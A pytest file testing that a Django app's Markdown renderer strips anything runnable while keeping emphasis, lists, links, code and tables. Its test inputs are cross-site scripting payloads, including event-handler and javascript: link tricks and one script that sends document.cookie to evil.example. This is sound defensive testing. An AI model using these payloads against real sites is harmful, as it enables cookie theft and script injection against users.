"""User Markdown becomes safe HTML: formatting kept, anything that could run script dropped."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString

from unkonf.core.markdown import render_markdown

pytestmark = pytest.mark.unit


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """The start tags of the rendered HTML, as a browser's tokenizer would see them."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_harmless(html: str) -> None:
    tags = tags_of(html)
    assert not {tag for tag, _attrs in tags} & {
        "script",
        "iframe",
        "img",
        "object",
        "embed",
        "style",
        "svg",
    }
    assert [name for _tag, attrs in tags for name in attrs if name.startswith("on")] == []
    hrefs = [(attrs.get("href") or "").strip().lower() for _tag, attrs in tags]
    assert [h for h in hrefs if h.startswith(("javascript:", "data:", "vbscript:"))] == []


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert('x')</script>",
        "Vorher <script>location='https://evil.example/?'+document.cookie</script> nachher",
        '<iframe src="https://evil.example"></iframe>',
        "[Klick mich](javascript:alert(1))",
        "[Klick mich](JaVaScRiPt:alert(1))",
        "[Klick mich](  javascript:alert(1))",
        '<a href="javascript:alert(1)">Link</a>',
        "[Daten](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<img src=x onerror=alert(1)>",
        '<p onclick="alert(1)">Text</p>',
        '<a href="https://example.org" onmouseover="alert(1)">Link</a>',
        "<svg onload=alert(1)>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        "![Bild](javascript:alert(1))",
        "<scr<script>ipt>alert(1)</script>",
    ],
)
def test_render_markdown_makes_script_harmless(source):
    html = render_markdown(source)

    assert_harmless(html)


def test_render_markdown_script_tag_leaves_nothing_runnable():
    html = render_markdown("Hallo <script>alert('x')</script> Welt")

    assert "<script" not in html
    assert "Hallo" in html
    assert "Welt" in html


def test_render_markdown_javascript_link_loses_its_href():
    html = render_markdown("[Programm](javascript:alert(1))")

    assert tags_of(html) == [("p", {}), ("a", {"rel": "noopener noreferrer nofollow"})]
    assert "Programm" in html


def test_render_markdown_keeps_emphasis_lists_and_links():
    html = render_markdown(
        "Das ist *wichtig* und **sehr wichtig**.\n\n"
        "- Sessions vorschlagen\n- abstimmen\n\n"
        "1. Ankommen\n2. Loslegen\n\n"
        "Mehr unter [unserer Seite](https://barcamp.musterstadt.example/programm)."
    )

    assert html == (
        "<p>Das ist <em>wichtig</em> und <strong>sehr wichtig</strong>.</p>\n"
        "<ul>\n<li>Sessions vorschlagen</li>\n<li>abstimmen</li>\n</ul>\n"
        "<ol>\n<li>Ankommen</li>\n<li>Loslegen</li>\n</ol>\n"
        '<p>Mehr unter <a href="https://barcamp.musterstadt.example/programm" '
        'rel="noopener noreferrer nofollow">unserer Seite</a>.</p>'
    )


def test_render_markdown_every_link_gets_rel_noopener():
    html = render_markdown(
        "[eins](https://a.example) <https://b.example> [mail](mailto:orga@musterstadt.example)"
    )

    links = [attrs for tag, attrs in tags_of(html) if tag == "a"]
    assert [a["href"] for a in links] == [
        "https://a.example",
        "https://b.example",
        "mailto:orga@musterstadt.example",
    ]
    assert {a["rel"] for a in links} == {"noopener noreferrer nofollow"}


def test_render_markdown_keeps_code_and_tables():
    html = render_markdown("`code`\n\n| Raum | Plätze |\n| --- | --- |\n| Ratssaal | 120 |")

    assert "<code>code</code>" in html
    assert [tag for tag, _attrs in tags_of(html) if tag in {"table", "th", "td"}] == [
        "table",
        "th",
        "th",
        "td",
        "td",
    ]


def test_render_markdown_is_marked_safe_and_empty_for_nothing():
    assert isinstance(render_markdown("x"), SafeString)
    assert render_markdown("") == ""


def test_render_markdown_second_level_heading_stays_a_heading():
    html = render_markdown("## Ablauf")

    assert [tag for tag, _attrs in tags_of(html)] in (["h2"], ["h3"])
    assert "Ablauf" in html


def test_render_markdown_first_level_heading_becomes_h2():
    assert tags_of(render_markdown("# Ablauf\n\n## Vormittag")) == [("h2", {}), ("h3", {})]


def test_render_markdown_shows_text_in_angle_brackets():
    assert render_markdown("Bitte <Laptop> mitbringen") == "<p>Bitte &lt;Laptop&gt; mitbringen</p>"
